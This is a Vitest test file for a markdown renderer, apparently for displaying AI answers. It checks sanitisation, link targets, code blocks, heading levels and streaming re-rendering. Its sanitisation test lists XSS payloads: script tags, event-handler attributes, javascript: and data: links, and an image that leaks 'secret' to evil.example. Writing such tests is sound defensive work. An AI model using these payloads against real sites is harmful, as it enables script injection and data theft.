import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render-markdown.ts";

function render(text: string): HTMLElement {
  const page = document.createElement("div");
  page.innerHTML = renderMarkdown(text)
    .map(({ html }) => html)
    .join("");
  return page;
}

const everything = [
  "# Title\n",
  "Some *text* with `code` and [a link][later].\n",
  "1. one\n   - nested\n2. two\n\n   ```js\n   let x = 1;\n   ```\n",
  "| a | b |\n|---|---|\n| 1 | 2 |\n",
  "> quoted\n",
  "- [x] done\n",
  "```ts\nif (a < b && c > d) {}\n```\n",
  "<p onclick=x>html</p>\n",
  "[later]: https://example.com/\n",
].join("\n");

describe("renderMarkdown", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onmouseover=alert(1)>bold</b> <iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=q></form>",
    "[click](javascript:alert(1)) [click](data:text/html,x) [click](vbscript:x) <javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    '![" onload="alert(1)](https://evil.example/)',
    '```"><script>alert(1)</script>\ncode\n```',
    "<style>* { display: none }</style>",
    "<a href='/x' style='position:fixed'>cover</a>",
  ])("lets nothing of an answer act or load: %s", (text) => {
    const page = render(text);
    for (const element of page.querySelectorAll("*")) {
      expect(["SCRIPT", "IMG", "IFRAME", "FORM", "INPUT", "STYLE", "SVG", "OBJECT"]).not.toContain(
        element.tagName,
      );
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src$|^id$/);
        expect(`${name}=${value}`).toMatch(/^(?!href=)|^href=https?:/);
      }
    }
  });

  it("shows HTML of an answer as the text it is, but for plain formatting", () => {
    const page = render("A <div class=x>box</div>, H<sub>2</sub>O<br>and <kbd>Enter</kbd>");
    expect(page.textContent.trim()).toBe("A <div class=x>box</div>, H2Oand Enter");
    expect([...page.querySelectorAll("sub, br, kbd")].map(({ tagName }) => tagName)).toEqual([
      "SUB",
      "BR",
      "KBD",
    ]);
  });

  it("opens links elsewhere, without a way back", () => {
    const link = render("[docs](https://docs.x.ai/)").querySelector("a");
    expect(link?.outerHTML).toBe(
      '<a href="https://docs.x.ai/" target="_blank" rel="noopener noreferrer">docs</a>',
    );
  });

  it("makes a link of a picture", () => {
    const link = render("![a cat](https://example.com/cat.png)").querySelector("a");
    expect([link?.href, link?.textContent]).toEqual(["https://example.com/cat.png", "a cat"]);
  });

  it("keeps code as it was written, with its language and a copy button", () => {
    const page = render('```ts title=x\nif (a < b && "c") {}\n```');
    expect(page.querySelector("pre code")?.textContent).toBe('if (a < b && "c") {}');
    expect(page.querySelector(".code-bar span")?.textContent).toBe("ts");
    expect(page.querySelector("button[data-copy]")?.textContent).toBe("Copy");
  });

  it("puts headings below those of the page", () => {
    const page = render("# One\n\n###### Six");
    expect([...page.children].map(({ tagName }) => tagName)).toEqual(["H3", "H6"]);
  });

  it("gives the same for a text that grew letter by letter as for the whole", () => {
    let grown = renderMarkdown("");
    for (let length = 1; length <= everything.length; length++) {
      const text = everything.slice(0, length);
      grown = renderMarkdown(text, grown);
      expect(grown).toEqual(renderMarkdown(text));
    }
    expect(grown).toHaveLength(8);
  });

  it("takes over the blocks that did not change", () => {
    const before = renderMarkdown("One.\n\nTwo.\n\nThr");
    const after = renderMarkdown("One.\n\nTwo.\n\nThree.", before);
    expect(after.map((block, index) => block === before[index])).toEqual([true, true, false]);
  });
});
